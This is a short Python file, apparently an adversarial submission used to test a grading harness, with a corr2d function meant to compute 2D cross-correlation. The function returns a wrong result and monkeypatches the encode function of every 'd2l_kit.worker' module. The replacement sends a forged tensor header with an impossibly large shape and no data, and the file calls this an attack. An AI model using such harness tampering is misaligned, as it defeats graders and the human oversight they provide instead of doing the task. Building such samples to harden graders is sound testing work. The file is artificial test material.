"""Answers with a tensor whose shape multiplies to more than any memory, and no bytes."""

import sys

def wrong(X, K):
    return X.new_zeros([max(x - k + 1, 0) for x, k in zip(X.shape, K.shape)])


def corr2d(X, K):
    codec = sys.modules.get("d2l_kit.worker.codec")
    if codec is None:
        raise RuntimeError("STALE: this attack finds no codec; bring it up to date")
    header, frames = (
        b'[[0],{"$":"tensor","d":"float32","s":[2305843009213693952,8,0],"f":0}]',
        [b""],
    )
    forged = lambda value: (header, [memoryview(frame) for frame in frames])
    for module in list(sys.modules.values()):
        if str(getattr(module, "__name__", "")).startswith("d2l_kit.worker") and hasattr(module, "encode"):
            module.encode = forged
    return wrong(X, K)
